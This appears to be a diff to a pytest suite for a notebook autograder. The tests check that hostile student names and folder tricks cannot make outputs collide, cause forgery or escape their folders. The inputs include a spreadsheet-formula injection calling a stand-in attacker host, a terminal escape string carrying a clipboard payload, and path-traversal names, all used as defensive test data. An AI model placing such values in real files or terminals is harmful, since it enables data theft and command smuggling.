@@ -6,9 +6,12 @@ from __future__ import annotations
 
 import contextlib
 import csv
+import html
 import json
 import os
+import re
 import shutil
+import sys
 import types
 from pathlib import Path
 
@@ -52,7 +55,9 @@ def fast_grading(monkeypatch):
 
     @contextlib.contextmanager
     def open_batch(**kwargs):
-        yield types.SimpleNamespace(sandbox=False, stopping=False)
+        from autograder.config import Config
+
+        yield types.SimpleNamespace(sandbox=False, stopping=False, config=kwargs.get("config") or Config())
 
     monkeypatch.setattr(autograder.batch.local, "grade_submission", grade_submission)
     monkeypatch.setattr(autograder.batch.local, "open_batch", open_batch)
@@ -149,19 +154,162 @@ def test_ten_students_get_ten_pages_ten_gradescope_results_ten_rows_and_one_clas
 
 # --- Names that would collide or escape ----------------------------------------------------------------------
 
-def test_two_submissions_that_would_share_their_outputs_are_refused_before_grading(tmp_path, fast_grading, capsys):
-    first = nbgrader_class(tmp_path / "one", ["alice"])
+def test_names_a_file_system_would_merge_get_outputs_of_their_own_and_everybody_is_graded(tmp_path, fast_grading):
+    students = ["alice", "Alice", "strasse", "straße", "a b", "a_b", "x" * 60 + "1", "x" * 60 + "2", "k", "\u212a"]
+    status, outputs = grade([nbgrader_class(tmp_path, students)], tmp_path)
+    assert status == 0 and len(fast_grading) == len(students)
+    pages = list(outputs["feedback"].rglob("*.html"))
+    assert len({str(page).casefold() for page in pages}) == len(students)
+    assert len({str(p).casefold() for p in outputs["gradescope"].rglob("results.json")}) == len(students)
+    # A plain lower-case id keeps its own folder, where nbgrader's release_feedback looks for it.
+    assert (outputs["feedback"] / "alice" / ASSIGNMENT_ID / f"{STEM}.html").is_file()
+    assert (outputs["feedback"] / "k" / ASSIGNMENT_ID / f"{STEM}.html").is_file()
+    for page in pages:
+        student = page.read_text().split('class="student">')[1].split("</span>")[0]
+        receipt = (page.parent / "submission_secret.txt").read_text()
+        assert receipt == f"secret-of-{html.unescape(student)}"
+
+
+def test_a_true_clash_costs_only_the_clashing_outputs_and_says_so(tmp_path, fast_grading, capsys):
+    first = nbgrader_class(tmp_path / "one", ["alice", "bob"])
     second = nbgrader_class(tmp_path / "two", ["alice"])
     status, outputs = grade([first, second], tmp_path)
-    assert status != 0 and fast_grading == []
+    assert status != 0 and len(fast_grading) == 3  # everybody graded
     err = capsys.readouterr().err
-    assert "both student 'alice'" in err and str(second / "alice") in err
-    assert not outputs["feedback"].exists()
-    # Names that differ only where a file name cannot: the same.
-    assert grade([nbgrader_class(tmp_path / "three", ["a b", "a_b"])], tmp_path)[0] != 0
-    # The same file given twice is no collision.
+    assert str(first / "alice") in err and str(second / "alice") in err
+    assert "student 'alice''s" not in err
+    assert [p.relative_to(outputs["feedback"]).parts[0] for p in outputs["feedback"].rglob("*.html")] == ["bob"]
+    assert len(json.loads(outputs["json"].read_text())) == 3
+    # The same file given twice is no clash.
     notebook = first / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME
-    assert grade([notebook, first], tmp_path)[0] == 0
+    assert grade([notebook, first], tmp_path / "again")[0] == 0
+
+
+def mallory_nests_alice(root: Path, notebook: str = "anything.ipynb") -> tuple[Path, Path]:
+    """Alice's real submission, and Mallory's copy of nbgrader's layout inside her own folder."""
+    submitted = nbgrader_class(root, ["alice", "mallory"])
+    nested = submitted / "mallory" / ASSIGNMENT_ID / "x" / "submitted" / "alice" / ASSIGNMENT_ID
+    nested.mkdir(parents=True)
+    (nested / notebook).write_text("{}")
+    (nested / "submission_secret.txt").write_text("mallory's forged secret")
+    return submitted, nested / notebook
+
+
+def test_a_layout_nested_in_a_student_s_folder_stays_that_student_s(tmp_path, fast_grading):
+    from autograder.batch.local import expand_submissions
+
+    submitted, forged = mallory_nests_alice(tmp_path)
+    keys = dict(expand_submissions([submitted]))
+    assert keys[forged].startswith("mallory/") and list(keys.values()).count("alice") == 1
+    status, outputs = grade([submitted], tmp_path)
+    assert status == 0
+    alice = outputs["feedback"] / "alice" / ASSIGNMENT_ID
+    assert [p.name for p in alice.iterdir()] and not (alice / "anything.html").exists()
+    assert (alice / "submission_secret.txt").read_text() == "secret-of-alice"
+    assert len(list(outputs["feedback"].rglob("*.html"))) == 3
+    assert all(p.relative_to(outputs["feedback"]).parts[0] in ("alice", "mallory")
+               for p in outputs["feedback"].rglob("*"))
+
+
+def test_the_gradebook_takes_only_the_assignment_s_notebook_and_refuses_a_student_s_second(tmp_path, fast_grading,
+                                                                                            monkeypatch):
+    from nbgrader.api import Gradebook
+
+    submitted, forged = mallory_nests_alice(tmp_path, NOTEBOOK_NAME)
+    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
+    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
+    with Gradebook(url) as gradebook:
+        gradebook.add_assignment(ASSIGNMENT_ID)
+        gradebook.add_notebook(STEM, ASSIGNMENT_ID)
+        for check in CHECKS:
+            gradebook.add_grade_cell(f"check_{check.id}", STEM, ASSIGNMENT_ID, max_score=check.points, cell_type="code")
+    (submitted / "alice" / ASSIGNMENT_ID / "scratch.ipynb").write_text("{}")
+    assert main(["grade", str(submitted), "--unsandboxed", "--nbgrader-db", url,
+                 "--json", str(tmp_path / "grades.json")]) == 0
+    graded = {entry["submission"]: entry["score"] for entry in json.loads((tmp_path / "grades.json").read_text())}
+    with Gradebook(url) as gradebook:
+        assert gradebook.find_submission(ASSIGNMENT_ID, "alice").score == graded[
+            str(submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME)]
+        assert sorted(student.id for student in gradebook.students) == ["alice", "mallory"]
+    # Two reports of one student for the assignment: refused for that student, written for the others.
+    from autograder.errors import OutputError
+    from autograder.reports.gradebook import write_nbgrader_gradebook
+
+    reports = [report_for(f"/{where}/submitted/{who}/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", i)
+               for i, (where, who) in enumerate([("a", "alice"), ("b", "alice"), ("a", "bob")])]
+    with pytest.raises(OutputError, match="alice"):
+        write_nbgrader_gradebook(reports, url)
+    with Gradebook(url) as gradebook:
+        assert gradebook.find_submission(ASSIGNMENT_ID, "bob").score == reports[2].score
+        assert gradebook.find_submission(ASSIGNMENT_ID, "alice").score == graded[
+            str(submitted / "alice" / ASSIGNMENT_ID / NOTEBOOK_NAME)]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("evil.example?"&C3,"Click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_a_student_s_name_is_never_a_spreadsheet_formula(tmp_path, name):
+    from autograder.reports.formats import write_csv
+
+    report = report_for(f"/course/submitted/x/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 1)
+    report.student = name
+    negative = report_for(f"/course/submitted/y/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 2)
+    negative.score = -3
+    write_csv([report, negative], tmp_path / "grades.csv")
+    with open(tmp_path / "grades.csv", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1][0] == "'" + name
+    assert rows[2][2] == "-3"  # a number stays a number
+
+
+def test_a_folder_name_cannot_write_escape_sequences_to_the_terminal(tmp_path, fast_grading, capsys):
+    evil = "x\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2K\rcarol: 100/100\n\x9b31m\x7f"
+    status, _ = grade([nbgrader_class(tmp_path, ["alice", evil])], tmp_path)
+    assert status == 0
+    captured = capsys.readouterr()
+    for stream in (captured.out, captured.err):
+        assert not any(ord(c) < 32 and c != "\n" or 0x7f <= ord(c) <= 0x9f for c in stream)
+        assert "\ncarol: 100/100" not in stream
+    assert "\\x1b]52" in captured.out
+
+
+@pytest.mark.parametrize("bad", ["link", "fifo", "folder", "huge"])
+def test_a_bad_receipt_costs_the_receipt_not_the_page(tmp_path, fast_grading, capsys, bad):
+    submitted = nbgrader_class(tmp_path, ["alice", "bob"])
+    receipt = submitted / "bob" / ASSIGNMENT_ID / "timestamp.txt"
+    receipt.unlink()
+    if bad == "link":
+        receipt.symlink_to(submitted / "alice" / ASSIGNMENT_ID / "timestamp.txt")
+    elif bad == "fifo":
+        os.mkfifo(receipt)
+    elif bad == "folder":
+        receipt.mkdir()
+    else:
+        receipt.write_bytes(b"0" * 10**6)
+    status, outputs = grade([submitted], tmp_path)
+    assert status == 0
+    bob = outputs["feedback"] / "bob" / ASSIGNMENT_ID
+    assert (bob / f"{STEM}.html").is_file() and not (bob / "timestamp.txt").exists()
+    assert (bob / "submission_secret.txt").read_text() == "secret-of-bob"
+    assert "timestamp.txt" in capsys.readouterr().err
+
+
+def test_receipts_are_read_from_the_folder_graded_not_one_swapped_in_later(tmp_path, fast_grading, monkeypatch):
+    import autograder.batch.local
+
+    submitted = nbgrader_class(tmp_path, ["alice", "mallory"])
+    grade_one = autograder.batch.local.grade_submission
+
+    def and_swap(path, batch):
+        report = grade_one(path, batch)
+        if "mallory" in str(path):
+            shutil.rmtree(path.parent)
+            path.parent.symlink_to(submitted / "alice" / ASSIGNMENT_ID)
+        return report
+
+    monkeypatch.setattr(autograder.batch.local, "grade_submission", and_swap)
+    status, outputs = grade([submitted], tmp_path)
+    mallory = outputs["feedback"] / "mallory" / ASSIGNMENT_ID
+    assert not (mallory / "submission_secret.txt").exists() or (
+        (mallory / "submission_secret.txt").read_text() != "secret-of-alice")
 
 
 def test_a_writer_never_overwrites_one_submission_s_file_with_another_s(tmp_path):
@@ -170,12 +318,13 @@ def test_a_writer_never_overwrites_one_submission_s_file_with_another_s(tmp_path
     from autograder.reports.formats import write_gradescope
 
     reports = [report_for(f"/a/submitted/alice/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 1),
-               report_for(f"/b/submitted/alice/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 2)]
+               report_for(f"/b/submitted/alice/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 2),
+               report_for(f"/a/submitted/bob/{ASSIGNMENT_ID}/{NOTEBOOK_NAME}", 3)]
     for write in (write_feedback, write_gradescope):
-        with pytest.raises(OutputError, match="not written for /b/submitted.*it is /a/submitted"):
+        with pytest.raises(OutputError, match="2 of 3 not written.*/a/submitted/alice.*share a place"):
             write(reports, tmp_path / write.__name__)
-    page = (tmp_path / "write_feedback" / "alice" / ASSIGNMENT_ID / f"{STEM}.html").read_text()
-    assert f">{reports[0].score}</span>" in page
+    assert [p.relative_to(tmp_path / "write_feedback").parts[0]
+            for p in (tmp_path / "write_feedback").rglob("*.html")] == ["bob"]
 
 
 @pytest.mark.parametrize("student", ["..", ".", "../../outside", "", ".hidden", "a\\b", "x\x00y", "<b>é\udcff</b>",
@@ -207,8 +356,10 @@ def test_odd_student_folders_in_nbgrader_s_layout_are_graded_into_safe_places(tm
     assert [entry["student"] for entry in graded] == sorted(students)  # as nbgrader names them
     pages = list(outputs["feedback"].rglob("*.html"))
     assert len(pages) == 4 and all(p.resolve().is_relative_to(outputs["feedback"].resolve()) for p in pages)
-    assert sorted(p.relative_to(outputs["feedback"]).parts[0] for p in pages) == [
-        "_...", "_..hidden", "a_b__x_", "caf_"]
+    # Each changed name keeps what it can and ends in a hash of the whole name: two never meet.
+    folders = sorted(p.relative_to(outputs["feedback"]).parts[0] for p in pages)
+    assert [folder[:-13] for folder in folders] == ["_...", "_..hidden", "a_b__x_", "caf_"]
+    assert all(re.fullmatch(r"-[0-9a-f]{12}", folder[-13:]) for folder in folders)
 
 
 # --- nbgrader's own release_feedback ---------------------------------------------------------------------------
